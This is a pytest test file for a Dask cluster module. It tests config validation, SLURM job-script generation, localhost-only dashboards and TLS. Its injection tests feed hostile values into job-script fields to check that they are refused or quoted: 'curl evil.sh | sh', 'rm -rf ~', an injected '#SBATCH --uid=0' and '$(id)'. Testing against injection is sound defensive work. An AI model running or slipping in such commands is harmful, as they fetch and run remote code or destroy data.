"""Clusters from config (no SLURM needed): validation, local and address kinds, job scripts."""

from __future__ import annotations

import os

import dask.config
import dask.utils
import pytest
from click.testing import CliRunner

from smd_dist.cli import main
from smd_dist.config import ConfigError
from smd_dist.engine.clusters import (
    SINGLE_THREAD_ENV,
    default_layout,
    job_script,
    make_client,
    make_cluster,
    read_cluster_section,
    resolve_config,
)

SLURM = {
    "kind": "slurm",
    "cores": 2,
    "memory": "6GB",
    "walltime": "02:00:00",
    "queue": "gpu-short",
    "account": "lab-acct",
    "job_extra_directives": ["--gres=gpu:1"],
    "lifetime": "55m",
    "lifetime-stagger": "5m",
    "lifetime-restart": True,
}


# --- validation ---------------------------------------------------------------------------


def test_defaults_are_a_local_cluster():
    cfg = resolve_config(None)
    assert cfg["kind"] == "local"
    assert cfg["threads-per-worker"] is None and cfg["n-workers"] is None
    assert resolve_config({})["kind"] == "local"


@pytest.mark.parametrize(
    ("cores", "n_workers", "threads", "expected"),
    [
        (1, None, None, (1, 1)),
        (2, None, None, (1, 2)),
        (3, None, None, (3, 1)),
        (8, None, None, (4, 2)),
        (2, 2, None, (2, 1)),
        (8, 2, None, (2, 4)),
        (8, 16, None, (16, 1)),
        (8, None, 1, (8, 1)),
        (8, None, 3, (2, 3)),
        (2, None, 4, (1, 4)),
        (8, 3, 5, (3, 5)),
    ],
)
def test_default_layout_fills_the_cores(
    cores, n_workers, threads, expected
):
    assert default_layout(cores, n_workers=n_workers, threads=threads) == expected


def test_unknown_kind_names_it_and_suggests():
    with pytest.raises(ConfigError, match=r"unknown cluster kind 'slurn'.*did you mean 'slurm'"):
        resolve_config({"kind": "slurn"})


@pytest.mark.parametrize(
    ("key", "suggestion"),
    [("cors", "cores"), ("wall_time", "walltime"), ("n_worker", "n-workers"),
     ("lifetime_stager", "lifetime-stagger")],
)
def test_unknown_key_names_it_and_suggests(key, suggestion):
    spelt = key.replace("_", "-")
    with pytest.raises(ConfigError, match=rf"unknown key '{spelt}'.*'{suggestion}'"):
        resolve_config({"kind": "slurm", key: 1})


def test_underscores_and_partition_alias():
    cfg = resolve_config({"kind": "slurm", "job_extra_directives": "--gres=gpu:1",
                          "partition": "debug"})
    assert cfg["job-extra-directives"] == ["--gres=gpu:1"]
    assert cfg["queue"] == "debug"
    assert "partition" not in cfg
    with pytest.raises(ConfigError, match="both queue 'a' and partition 'b'"):
        resolve_config({"kind": "slurm", "queue": "a", "partition": "b"})
    with pytest.raises(ConfigError, match="'n-workers' twice"):
        resolve_config({"n-workers": 1, "n_workers": 2})


def test_keys_of_another_kind_are_accepted():
    # One file serves a laptop and SLURM: only `kind` changes.
    cfg = resolve_config({**SLURM, "kind": "local", "n-workers": 1})
    assert cfg["kind"] == "local" and cfg["cores"] == 2


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        ({"jobs": -1}, r"'jobs' must be an integer >= 0, got -1"),
        ({"cores": "two"}, r"'cores' must be an integer >= 1, got 'two'"),
        ({"memory": "lots"}, r"'memory' must be an amount of memory.*'lots'"),
        ({"lifetime": "soon"}, r"'lifetime' must be a duration.*'soon'"),
        ({"lifetime-restart": "yes"}, r"'lifetime-restart' must be true or false"),
        ({"profiler": "on"}, r"'profiler' must be true or false, got 'on'"),
        ({"tick-interval": "often"}, r"'tick-interval' must be a duration.*'often'"),
        ({"job-extra-directives": [1]}, r"'job-extra-directives' must be a list of strings"),
        ({"adapt": 3}, r"'adapt' must be a mapping"),
        ({"adapt": {"minimun": 1, "maximum": 2}}, r"unknown key 'minimun'.*'minimum'"),
        ({"adapt": {"minimum": 3, "maximum": 2}}, r"maximum \(2\) must be at least"),
        ({"adapt": {"minimum": 1}}, r"'adapt' maximum must be an integer"),
    ],
)
def test_bad_values_are_named(extra, message):
    with pytest.raises(ConfigError, match=message):
        resolve_config({"kind": "slurm", **extra})


def test_bad_local_values_are_named():
    with pytest.raises(ConfigError, match=r"'n-workers' must be an integer >= 1, got 0"):
        resolve_config({"n-workers": 0})
    with pytest.raises(ConfigError, match=r"'memory-limit' must be 'auto'.*'much'"):
        resolve_config({"memory-limit": "much"})
    with pytest.raises(ConfigError, match="must be a mapping"):
        resolve_config(["local"])


def test_address_kind_needs_an_address_and_starts_no_cluster():
    with pytest.raises(ConfigError, match="kind 'address' needs 'address'"):
        resolve_config({"kind": "address"})
    with pytest.raises(ConfigError, match="there is no cluster to start"):
        make_cluster({"kind": "address", "address": "tcp://127.0.0.1:1"})


def test_defaults_come_from_dask_config():
    with dask.config.set({"smd-dist.cluster.n-workers": 3}):
        assert resolve_config({})["n-workers"] == 3
        assert resolve_config({"n-workers": 1})["n-workers"] == 1


def test_read_cluster_section(tmp_path):
    path = tmp_path / "run.yaml"
    path.write_text("cluster:\n  kind: slurm\n  cores: 1\n")
    assert read_cluster_section(path) == {"kind": "slurm", "cores": 1}
    path.write_text("store: s\noutput: o\n")
    assert read_cluster_section(path) == {}
    path.write_text("clustr: {kind: slurm}\n")
    with pytest.raises(ConfigError, match=r"unknown key 'clustr'.*'cluster'"):
        read_cluster_section(path)
    with pytest.raises(ConfigError, match="does not exist"):
        read_cluster_section(tmp_path / "missing.yaml")


# --- job scripts (no sbatch needed) -----------------------------------------------------------


def test_job_script_has_the_configured_directives(tmp_path, monkeypatch):
    monkeypatch.setenv("PATH", str(tmp_path))  # no sbatch, squeue or scancel reachable
    script = job_script(SLURM)
    lines = script.splitlines()
    assert "#SBATCH -p gpu-short" in lines
    assert "#SBATCH -A lab-acct" in lines
    assert "#SBATCH --cpus-per-task=2" in lines
    assert any(line.startswith("#SBATCH --mem=") for line in lines)
    assert "#SBATCH -t 02:00:00" in lines
    assert "#SBATCH --gres=gpu:1" in lines
    for name, value in SINGLE_THREAD_ENV.items():
        assert f"export {name}={value}" in lines
    # Workers read Dask settings from DASK_* variables: profiler off, a 1 s tick.
    assert "export DASK_DISTRIBUTED__WORKER__PROFILE__ENABLED=False" in lines
    assert "export DASK_DISTRIBUTED__ADMIN__TICK__INTERVAL=1s" in lines
    worker = lines[-1]
    assert "--lifetime 55m" in worker
    assert "--lifetime-stagger 5m" in worker
    assert "--lifetime-restart" in worker
    # The default layout on 2 cores: one worker process, two task threads.
    assert "--nthreads 2" in worker and "--nworkers" not in worker


def test_job_script_takes_resources_from_jobqueue_config():
    site = {"jobqueue.slurm.cores": 4, "jobqueue.slurm.memory": "16GB",
            "jobqueue.slurm.account": "site-acct", "jobqueue.slurm.queue": "normal",
            "jobqueue.slurm.job-extra-directives": ["--qos=long"]}
    with dask.config.set(site):
        lines = job_script({"kind": "slurm"}).splitlines()
        assert "#SBATCH -A site-acct" in lines
        assert "#SBATCH -p normal" in lines
        assert "#SBATCH --cpus-per-task=4" in lines
        assert "#SBATCH --qos=long" in lines
        # The run config overrides the site's values.
        lines = job_script({"kind": "slurm", "queue": "debug", "cores": 1,
                            "job-extra-directives": []}).splitlines()
        assert "#SBATCH -p debug" in lines
        assert "#SBATCH --cpus-per-task=1" in lines
        assert "#SBATCH --qos=long" not in lines
        assert "#SBATCH -A site-acct" in lines


def test_job_script_needs_cores_and_memory():
    with dask.config.set({"jobqueue.slurm.cores": None, "jobqueue.slurm.memory": None}):
        with pytest.raises(ConfigError, match=r"needs 'cores' and 'memory' per job.*jobqueue"):
            job_script({"kind": "slurm"})


def test_job_script_refuses_other_kinds_and_lone_stagger():
    with pytest.raises(ConfigError, match="only for cluster kind 'slurm'.*'local'"):
        job_script({"kind": "local"})
    with pytest.raises(ConfigError, match="'lifetime-stagger' and 'lifetime-restart' need"):
        job_script({"kind": "slurm", "cores": 1, "memory": "1GB", "lifetime-stagger": "5m"})


def test_cli_job_script(tmp_path):
    path = tmp_path / "run.yaml"
    path.write_text(
        "store: s\noutput: o\ncluster:\n  kind: slurm\n  cores: 1\n  memory: 2GB\n"
        "  partition: debug\n  walltime: '00:20:00'\n  lifetime: 15m\n"
    )
    result = CliRunner().invoke(main, ["cluster", "job-script", str(path)])
    assert result.exit_code == 0, result.output
    assert "#SBATCH -p debug" in result.output
    assert "#SBATCH -t 00:20:00" in result.output
    assert "--lifetime 15m" in result.output
    path.write_text("cluster: {kind: local}\n")
    result = CliRunner().invoke(main, ["cluster", "job-script", str(path)])
    assert result.exit_code == 2
    assert "only for cluster kind 'slurm'" in result.output


# --- local and address kinds ----------------------------------------------------------------


def _thread_state():
    import torch

    return os.environ.get("OMP_NUM_THREADS"), os.environ.get("OPENBLAS_NUM_THREADS"), \
        torch.get_num_threads()


def test_local_client_has_single_threaded_worker_processes(capsys):
    cfg = {"kind": "local", "n-workers": 2, "threads-per-worker": 1, "dashboard-address": ":0"}
    with make_client(cfg) as client:
        workers = client.scheduler_info()["workers"]
        assert len(workers) == 2
        assert all(w["nthreads"] == 1 for w in workers.values())
        pids = set(client.run(os.getpid).values())
        assert len(pids) == 2 and os.getpid() not in pids  # separate processes
        # In the event loop (plugin) and in task threads alike.
        assert set(client.run(_thread_state).values()) == {("1", "1", 1)}
        futures = [client.submit(_thread_state, pure=False, workers=[w]) for w in workers]
        assert {f.result() for f in futures} == {("1", "1", 1)}
        assert client.submit(sum, [1, 2, 3]).result() == 6
        cluster_obj = client.cluster
    assert cluster_obj.status.name == "closed"
    assert "local cluster, 2 workers; dashboard http" in capsys.readouterr().err


def _thread_state_slowly():
    import threading
    import time

    time.sleep(0.2)  # long enough that the worker's other thread takes the next task
    return threading.get_ident(), _thread_state()


def test_one_local_worker_fills_the_cores_with_single_threaded_task_threads(capsys):
    cfg = {"kind": "local", "n-workers": 1, "dashboard-address": ":0"}
    with make_client(cfg) as client:
        (worker,) = client.scheduler_info()["workers"].values()
        assert worker["nthreads"] == default_layout(os.cpu_count() or 1, n_workers=1)[1]
        futures = [client.submit(_thread_state_slowly, pure=False) for _ in range(6)]
        seen = [f.result() for f in futures]
    assert {state for _, state in seen} == {("1", "1", 1)}
    if worker["nthreads"] > 1:
        assert len({ident for ident, _ in seen}) > 1  # both threads ran tasks
        n = worker["nthreads"]
        assert f"local cluster, 1 worker x {n} threads; dashboard" in capsys.readouterr().err


def _dask_settings_here():
    import dask.config

    return (
        dask.config.get("distributed.worker.profile.enabled"),
        dask.config.get("distributed.admin.tick.interval"),
    )


@pytest.mark.parametrize(("extra", "expected"), [({}, (False, "1s")),
                                                 ({"profiler": True, "tick-interval": "50ms"},
                                                  (True, "50ms"))])
def test_local_workers_get_the_dask_settings(extra, expected):
    cfg = {"kind": "local", "n-workers": 1, "dashboard-address": ":0", **extra}
    with make_client(cfg, quiet=True) as client:
        assert set(client.run(_dask_settings_here).values()) == {expected}
        scheduler = client.cluster.scheduler
        tick = dask.utils.parse_timedelta(expected[1])
        assert scheduler.periodic_callbacks["tick"].callback_time == tick * 1000


def test_address_client_connects_to_a_running_scheduler():
    from distributed import LocalCluster

    with LocalCluster(n_workers=1, threads_per_worker=1, processes=True,
                      dashboard_address=":0") as running:
        with make_client({"kind": "address", "address": running.scheduler_address},
                         quiet=True) as client:
            assert client.scheduler.address == running.scheduler_address
            assert client.submit(sum, [1, 2]).result() == 3
            assert set(client.run(_thread_state).values()) == {("1", "1", 1)}
        # The scheduler belongs to someone else: still running after the client closes.
        assert running.status.name == "running"


def test_make_cluster_local_sized_to_the_machine():
    from dask.system import CPU_COUNT

    with dask.config.set({"smd-dist.cluster.memory-limit": "1GB"}):
        with make_cluster({"dashboard-address": ":0"}) as local:
            processes, threads = default_layout(CPU_COUNT)
            assert len(local.workers) == processes
            spec = next(iter(local.worker_spec.values()))["options"]
            assert spec["nthreads"] == threads and spec["memory_limit"] == "1GB"



# --- security: localhost, TLS, job scripts that say only what they are meant to -------------


def _listening() -> set[tuple[int, str, int]]:
    """(pid, ip, port) of every listening socket of this process and its children."""
    import psutil

    me = psutil.Process()
    found = set()
    for proc in [me, *me.children(recursive=True)]:
        try:
            conns = proc.net_connections(kind="inet")
        except psutil.Error:
            continue
        found |= {(proc.pid, c.laddr.ip, c.laddr.port) for c in conns
                  if c.status == psutil.CONN_LISTEN}
    return found


def refused(address: str, security=None) -> bool:
    """Whether the scheduler at ``address`` refuses a connection made without its
    certificates (plain TCP, or TLS with other certificates)."""
    import asyncio

    from distributed.comm import connect

    async def attempt():
        args = security.get_connection_args("client") if security is not None else {}
        comm = await connect(address, timeout="5s", **args)
        await comm.write({"op": "identity"})
        await comm.read()
        await comm.close()

    try:
        asyncio.run(attempt())
    except (OSError, TimeoutError):
        return True
    return False


@pytest.mark.parametrize("layout", [
    {"n-workers": 1, "threads-per-worker": 1},
    {"worker-processes": False},  # the worker in this process has no host of its own
])
def test_a_local_cluster_listens_on_localhost_only(layout, capsys):
    """Defect 8: the local dashboard listened on every interface."""
    from urllib.request import urlopen

    before = _listening()
    cfg = {"kind": "local", "dashboard-address": ":0", **layout}
    with make_client(cfg, quiet=False):
        opened = _listening() - before
        printed = capsys.readouterr().err
        link = printed.split("dashboard ")[-1].strip()
        with urlopen(link, timeout=30) as page:  # the link printed is where it answers
            assert page.status == 200
    assert opened, "no listening socket found"
    assert {ip for _, ip, _ in opened} <= {"127.0.0.1", "::1"}, opened
    assert link.startswith("http://127.0.0.1:"), printed


@pytest.mark.parametrize(("given", "bound"), [
    (None, "127.0.0.1:8787"), (":0", "127.0.0.1:0"), ("8790", "127.0.0.1:8790"),
    ("0.0.0.0:8787", "0.0.0.0:8787"), ("10.1.2.3:9000", "10.1.2.3:9000"),
])
def test_dashboards_default_to_localhost(given, bound):
    from smd_dist.engine.clusters import dashboard_address

    assert dashboard_address(given) == bound


def test_security_true_makes_a_tls_local_cluster_others_cannot_join():
    """Defect 8: `security: true` gives temporary certificates to scheduler, workers and
    client; a client without them is refused; a user's Security object connects."""
    from distributed import Security

    with make_client({"kind": "local", "n-workers": 1, "threads-per-worker": 1,
                      "dashboard-address": ":0", "security": True}, quiet=True) as client:
        address = client.scheduler.address
        assert address.startswith("tls://127.0.0.1:")
        assert client.submit(sum, [1, 2]).result() == 3
        assert all(w.startswith("tls://") for w in client.scheduler_info()["workers"])
        assert refused(address.replace("tls://", "tcp://"))
        assert refused(address, Security.temporary())
        assert not refused(address, client.cluster.security)
        security = client.cluster.security
        with make_client({"kind": "address", "address": address}, security=security,
                         quiet=True) as second:
            assert second.submit(sum, [3, 4]).result() == 7


def test_security_is_refused_where_it_cannot_apply():
    with pytest.raises(ConfigError, match="'security' must be true or false"):
        resolve_config({"security": "yes"})
    with pytest.raises(ConfigError, match="kind 'address'.*Security"):
        with make_client({"kind": "address", "address": "tcp://127.0.0.1:1",
                          "security": True}):
            pass


def test_job_script_with_security_uses_tls(tmp_path, monkeypatch):
    monkeypatch.setenv("PATH", str(tmp_path))
    worker = job_script({**SLURM, "security": True,
                         "shared-temp-directory": str(tmp_path)}).splitlines()[-1]
    assert " tls://" in worker and "--protocol tls://" in worker
    for option in ("--tls-ca-file", "--tls-cert", "--tls-key"):
        assert option in worker
    assert "BEGIN" not in worker  # certificates travel as files, never in the script


@pytest.mark.parametrize(("key", "value"), [
    ("name", "dask\necho pwned"),
    ("name", "my job"),
    ("job-extra-directives", ["--gres=gpu:1\nrm -rf ~"]),
    ("worker-extra-args", ["--lifetime 5m\ncurl evil.sh | sh"]),
    ("job-script-prologue", ["module load cuda\rcurl evil.sh | sh"]),
    ("queue", "gpu\n#SBATCH --uid=0"),
    ("account", "lab\x00"),
])
def test_control_characters_in_job_script_values_are_refused(key, value):
    """Defect 11: a newline in a value became a shell line of the job script."""
    cfg = {k: v for k, v in SLURM.items() if k.replace("_", "-") != key}
    with pytest.raises(ConfigError, match=f"cluster '{key}'"):
        job_script({**cfg, key: value})


def test_worker_extra_args_are_quoted_in_the_job_script(tmp_path, monkeypatch):
    monkeypatch.setenv("PATH", str(tmp_path))
    args = ["--resources GPU=1;touch /tmp/pwned", "--memory-target-fraction", "$(id)"]
    worker = job_script({**SLURM, "worker-extra-args": args}).splitlines()[-1]
    assert "--resources 'GPU=1;touch' /tmp/pwned" in worker
    assert "'$(id)'" in worker and "--memory-target-fraction" in worker
    assert "--lifetime 55m" in worker


def test_compute_distances_joins_a_tls_scheduler_with_the_users_security(tmp_path):
    from distributed import LocalCluster, Security

    from smd_dist.engine import compute_distances
    from smd_dist.store import ActivationStore

    store = ActivationStore(tmp_path / "s", mode="w")
    rng = __import__("numpy").random.default_rng(0)
    for layer in ("a", "b", "c"):
        store.write("m", layer, rng.normal(size=(12, 4)))
    security = Security.temporary()
    with LocalCluster(n_workers=1, threads_per_worker=1, processes=False,
                      dashboard_address=None, security=security) as cluster:
        address = {"kind": "address", "address": cluster.scheduler_address}
        ds = compute_distances(store, cluster=address, security=security, progress=False)
        assert ds.sizes["rep_a"] == 3 and not ds.attrs["failed_pairs"]
